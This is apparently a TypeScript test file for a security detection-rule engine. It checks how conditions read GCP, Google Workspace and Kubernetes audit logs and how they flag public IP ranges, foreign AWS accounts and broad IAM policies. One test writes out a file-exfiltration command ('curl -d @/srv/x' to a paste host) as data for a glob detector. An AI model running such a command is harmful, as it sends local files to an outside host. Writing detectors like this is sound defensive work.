import type { Event, Json, JsonObject } from "@rolecall/core";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { compileCondition } from "./condition.ts";
import { evidenceOf } from "./evidence.ts";
import { compileGlob } from "./glob.ts";
import type { Condition } from "./rule.ts";

function holds(condition: Condition, raw: Json, event: Partial<Event> = {}): boolean {
  const whole = { account_uid: "123456789012", ...event, raw: JSON.stringify(raw) } as Event;
  return compileCondition(condition)(evidenceOf(whole, 0));
}

const policy = (statement: Json): string => JSON.stringify({ Version: "2012-10-17", Statement: statement });

test.each<[string, Json]>([
  ["as the Reports API has it", { events: [{ name: "a", parameters: [{ name: "P", value: "x" }] }] }],
  ["with one event as an object", { events: { name: "a", parameters: [{ name: "P", value: "x" }] } }],
  ["of one event, parameters by name", { name: "a", type: "t", parameters: { P: "x", Q: ["y"], R: null } }],
])("a rule reads an activity of Google Workspace %s", (_, raw) => {
  const condition = { field: "raw.events.*.parameters.*.value", equals: "x" };
  expect(holds(condition, raw, { source: "google-workspace" })).toBe(true);
});

test.each<[string, Condition, Json]>([
  [
    "in BigQuery's table",
    { field: "raw.protoPayload.serviceData.policyDelta.bindingDeltas.*.role", equals: "roles/owner" },
    { protopayload_auditlog: { servicedata_v1_iam: { policyDelta: { bindingDeltas: [{ role: "roles/owner" }] } } } },
  ],
  [
    "as text in that table",
    { field: "raw.protoPayload.request.member", equals: "user:a" },
    { protopayload_auditlog: { requestJson: '{"member":"user:a"}' } },
  ],
  [
    "without its entry",
    { field: "raw.protoPayload.request.member", equals: "user:a" },
    { request: { member: "user:a" } },
  ],
])("an audit log of Google's is read %s", (_, condition, raw) => {
  expect(holds(condition, raw, { source: "gcp-audit" })).toBe(true);
});

describe("a condition", () => {
  const raw = {
    a: "Text",
    n: 22,
    flag: false,
    list: [
      { k: "x", n: 1 },
      { k: "y", n: 2 },
    ],
    m: { p: [1, 2] },
    empty: "",
    nil: null,
    "top.most": 1,
    apart: { a: { b: { "c/d": "x" } } },
    labels: { "app.kubernetes.io/name": "shop", list: [{ "a.b": 1 }] },
  };

  test.each<[string, Condition, boolean]>([
    ["a name that has dots", { field: "raw.labels[app.kubernetes.io/name]", equals: "shop" }, true],
    ["a name in brackets that has none", { field: "raw[a]", equals: "text" }, true],
    ["a name at the top that has dots", { field: "raw[top.most]", equals: 1 }, true],
    ["a name that has dots, among others", { field: "raw.labels.list.*[a.b]", equals: 1 }, true],
    ["a name that has dots, which a store took apart", { field: "raw.apart[a.b.c/d]", equals: "x" }, true],
    ["a name that has dots and is not there", { field: "raw.labels[kubernetes.io/name]", exists: true }, false],
    ["equals, without regard to case", { field: "raw.a", equals: "TEXT" }, true],
    ["equals, numbers and booleans by their text", { field: "raw.flag", equals: "false" }, true],
    ["equals is false for an object", { field: "raw.m", equals: "" }, false],
    ["in", { field: "raw.n", in: [21, 22] }, true],
    ["prefix", { field: "raw.a", prefix: "te" }, true],
    ["suffix", { field: "raw.a", suffix: "XT" }, true],
    ["contains", { field: "raw.a", contains: "ex" }, true],
    ["matches", { field: "raw.a", matches: "T*t" }, true],
    ["exists", { field: "raw.m.p", exists: true }, true],
    ["exists, for an empty text", { field: "raw.empty", exists: true }, false],
    ["exists, for null", { field: "raw.nil", exists: true }, false],
    ["does not exist", { field: "raw.nowhere.at.all", exists: false }, true],
    [
      "atLeast and atMost",
      {
        all: [
          { field: "raw.n", atLeast: 22 },
          { field: "raw.n", atMost: 22 },
        ],
      },
      true,
    ],
    ["atMost is false for a text", { field: "raw.a", atMost: 99 }, false],
    ["any value of many", { field: "raw.list.*.k", equals: "y" }, true],
    ["elements at the end of a path", { field: "raw.m.p", equals: 2 }, true],
    ["not: none of the values", { not: { field: "raw.list.*.k", equals: "z" } }, true],
    [
      "each ties two tests to one member",
      {
        each: "raw.list",
        where: {
          all: [
            { field: "item.k", equals: "x" },
            { field: "item.n", equals: 2 },
          ],
        },
      },
      false,
    ],
    ["differsFrom needs both", { field: "raw.a", differsFrom: "raw.nowhere" }, false],
    ["differsFrom", { field: "raw.a", differsFrom: "raw.list.*.k" }, true],
    ["no inherited member", { field: "raw.m.constructor.name", exists: true }, false],
    ["a field of the event", { field: "account_uid", equals: "123456789012" }, true],
  ])("%s", (_title, condition, expected) => {
    expect(holds(condition, raw)).toBe(expected);
  });

  test.each([
    ["0.0.0.0/0", true],
    ["::/0", true],
    ["203.0.113.7/0", true],
    ["128.0.0.0/1", true],
    ["2000::/3", true],
    ["10.0.0.0/8", false],
    ["fc00::/7", false],
    ["2001:db8::/32", false],
    ["0.0.0.0", false],
    ["x/0", false],
  ])("the range %s is the whole world: %s", (value, expected) => {
    expect(holds({ field: "raw.r", worldOpen: true }, { r: value })).toBe(expected);
  });

  test.each([
    ["203.0.113.7", true],
    ["2001:db8::1", true],
    ["10.1.2.3", false],
    ["172.31.0.1", false],
    ["172.32.0.1", true],
    ["100.64.0.1", false],
    ["fd00::1", false],
    ["ec2.amazonaws.com", false],
    ["10.0.0.0/8", false],
    ["10.0.0.0/7", true],
    ["172.16.0.0/12", false],
    ["172.16.0.0/11", true],
    ["192.168.0.0/15", true],
    ["100.64.0.0/10", false],
    ["fd00::/8", false],
    ["::1/128", false],
    ["203.0.113.0/24", true],
    ["0.0.0.0/0", true],
    ["::/0", true],
  ])("the address %s is public: %s", (value, expected) => {
    expect(holds({ field: "raw.r", publicAddress: true }, { r: value })).toBe(expected);
  });

  test.each([
    ["arn:aws:iam::999988887777:root", true],
    ["999988887777", true],
    ["arn:aws:lambda:eu-west-1:123456789012:layer:x:1", false],
    ["arn:aws:s3:::bucket", false],
    ["events.amazonaws.com", false],
    ["*", false],
  ])("%s is of another account: %s", (value, expected) => {
    expect(holds({ field: "raw.r", outsideAccount: true }, { r: value })).toBe(expected);
  });
});

/** Conditions that leave everybody in. */
const WIDE: readonly (readonly [string, JsonObject])[] = [
  ["all but an organization", { StringNotEquals: { "aws:PrincipalOrgID": "o-1" } }],
  ["whoever has no network of ours", { Null: { "aws:SourceVpc": "true" } }],
  ["an organization, if there is one", { StringEqualsIfExists: { "aws:PrincipalOrgID": "o-1" } }],
  ["an organization, of none as well", { "ForAllValues:StringEquals": { "aws:PrincipalOrgID": "o-1" } }],
  ["any organization", { StringLike: { "aws:PrincipalOrgID": "o-*" } }],
  ["roles of any account", { ArnLike: { "aws:PrincipalArn": "arn:aws:iam::*:role/*" } }],
  ["two halves of the internet", { IpAddress: { "aws:SourceIp": ["0.0.0.0/1", "128.0.0.0/1"] } }],
];
const FOREIGN = { StringEquals: { "aws:PrincipalAccount": "999988887777" } };
const OWN = { ArnLike: { "aws:PrincipalArn": "arn:aws:iam::123456789012:role/*" } };
const GIVES: readonly (readonly [action: string, resource: string, gives: boolean])[] = [
  ["IAM:**", "*", true],
  ["iam:?*", "arn:aws:iam::*:*", true],
  ["*", "arn:aws:iam::123456789012:*", true],
  ["*", "arn:aws:*", true],
  ["iam:Put*", "*", true],
  ["iam:*Policy", "*", true],
  ["iam:Get*", "*", false],
  ["iam:PassRole", "*", false],
  ["*", "arn:aws:s3:::*", false],
];

describe("a policy document", () => {
  const outsider = { Effect: "Allow", Principal: { AWS: "arn:aws:iam::999988887777:root" }, Action: "sts:AssumeRole" };
  const everybody = { Effect: "Allow", Principal: "*", Action: "s3:GetObject", Resource: "*" };

  test.each<readonly [string, "outside" | "public" | "admin", Json, boolean]>([
    ["another account is outside", "outside", policy([outsider]), true],
    ["the same, URL-encoded", "outside", encodeURIComponent(policy([outsider])), true],
    ["the same, as an object with one statement", "outside", { Statement: outsider }, true],
    ["the same, denied", "outside", policy([{ ...outsider, Effect: "Deny" }]), false],
    ["an account id alone", "outside", policy([{ ...outsider, Principal: { AWS: ["999988887777"] } }]), true],
    ["the account itself", "outside", policy([{ ...outsider, Principal: { AWS: "123456789012" } }]), false],
    ["a service", "outside", policy([{ ...outsider, Principal: { Service: "ec2.amazonaws.com" } }]), false],
    ["a deleted principal", "outside", policy([{ ...outsider, Principal: { AWS: "AROAEXAMPLE" } }]), false],
    ["everybody is outside", "outside", policy([everybody]), true],
    ["everybody is public", "public", policy([everybody]), true],
    [
      "everybody of the organization is not",
      "public",
      policy([{ ...everybody, Condition: { StringEquals: { "aws:PrincipalOrgID": "o-1" } } }]),
      false,
    ],
    [
      "an open range narrows nothing",
      "public",
      policy([{ ...everybody, Condition: { IpAddress: { "aws:SourceIp": "0.0.0.0/0" } } }]),
      true,
    ],
    [
      "a condition on something else narrows nothing",
      "public",
      policy([{ ...everybody, Condition: { Bool: { "aws:SecureTransport": "true" } } }]),
      true,
    ],
    ["another account is not public", "public", policy([outsider]), false],
    [
      "who is not one of the named",
      "public",
      policy([{ ...everybody, Principal: undefined, NotPrincipal: "x" }]),
      true,
    ],
    ...WIDE.map(
      ([name, condition]) => [name, "public", policy([{ ...everybody, Condition: condition }]), true] as const,
    ),
    ["another account by a condition", "outside", policy([{ ...everybody, Condition: FOREIGN }]), true],
    ["its own account by a condition", "outside", policy([{ ...everybody, Condition: OWN }]), false],
    ["what is written far apart", "outside", policy([outsider]).replace("[", `[${" ".repeat(100_000)}`), true],
    ["everything on everything", "admin", policy([{ Effect: "Allow", Action: ["*"], Resource: ["*"] }]), true],
    ["everything of one service", "admin", policy([{ Effect: "Allow", Action: "s3:*", Resource: "*" }]), false],
    ["everything of IAM", "admin", policy([{ Effect: "Allow", Action: "iam:*", Resource: "*" }]), true],
    [
      "everything on one resource",
      "admin",
      policy([{ Effect: "Allow", Action: "*", Resource: "arn:aws:s3:::b" }]),
      false,
    ],
    ...GIVES.map(([Action, Resource, gives]) => {
      return [`${Action} on ${Resource}`, "admin", policy([{ Effect: "Allow", Action, Resource }]), gives] as const;
    }),
    ["all but support", "admin", policy([{ Effect: "Allow", NotAction: "support:*", Resource: "*" }]), true],
    ["all but IAM", "admin", policy([{ Effect: "Allow", NotAction: ["IAM:*", "a:b"], Resource: "*" }]), false],
    ["all but one resource", "admin", policy([{ Effect: "Allow", Action: "*", NotResource: "arn:aws:s3:::b" }]), true],
    ["no JSON", "public", "{", false],
    ["broken encoding", "public", "%7B%", false],
    ["a list", "public", "[]", false],
    ["statements that are none", "admin", policy([null, 7, []]), false],
  ])("%s", (_title, test_, document, expected) => {
    expect(holds({ field: "raw.p", policy: test_ }, { p: document })).toBe(expected);
  });
});

test("a glob finds its words in a text of any length", () => {
  expect(compileGlob("*curl*-d @*")(`curl -d @/srv/x https://paste.example # ${"x".repeat(100_000)}`)).toBe(true);
});

test.each([
  ["/etc/kubernetes", true],
  ["//etc/./kubernetes/", true],
  ["etc/kubernetes", false],
  ["/etc/kubernetes/pki", false],
])("the path %s is one of those that are meant: %s", (path, expected) => {
  expect(holds({ field: "raw.p", isPath: ["/etc/kubernetes", "/"] }, { p: path })).toBe(expected);
});

test("a JSON Patch is read as what it writes", () => {
  const patch = [{ op: "add", path: "/rules/-", value: { verbs: ["*"] } }];
  const condition = { each: "raw.requestObject.rules", where: { field: "item.verbs", equals: "*" } } as const;
  expect(holds(condition, { verb: "patch", requestObject: patch }, { source: "kubernetes-audit" })).toBe(true);
});

test("what matters may stand behind any number of others", () => {
  const raw = { list: [...new Array(2000).fill({ k: "a" }), { k: "b" }], flat: [...new Array(2000).fill("a"), "b"] };
  expect(holds({ field: "raw.list.*.k", equals: "b" }, raw)).toBe(true);
  expect(holds({ field: "raw.flat", equals: "b" }, raw)).toBe(true);
});

test("a glob means what its regular expression means", () => {
  const letters = fc.array(fc.constantFrom("a", "b", "*"), { maxLength: 8 }).map((parts) => parts.join(""));
  fc.assert(
    fc.property(letters, fc.array(fc.constantFrom("a", "b"), { maxLength: 12 }), (pattern, text) => {
      const expected = new RegExp(`^${pattern.replaceAll("*", ".*")}$`).test(text.join(""));
      expect(compileGlob(pattern)(text.join(""))).toBe(expected);
    }),
    { numRuns: 2000 },
  );
});

test("one of many texts is found as each of them by itself would be", () => {
  const text = fc.string({
    unit: fc.constantFrom("a", "A", "-", "+", "/", "(", "|", "\\", "K", "\u212a", " "),
    maxLength: 8,
  });
  fc.assert(
    fc.property(fc.array(text, { minLength: 2, maxLength: 6 }), text, (texts, value) => {
      const any = texts.map((contains) => ({ field: "raw.v", contains }));
      expect(holds({ any }, { v: value })).toBe(any.some((one) => holds(one, { v: value })));
    }),
  );
});
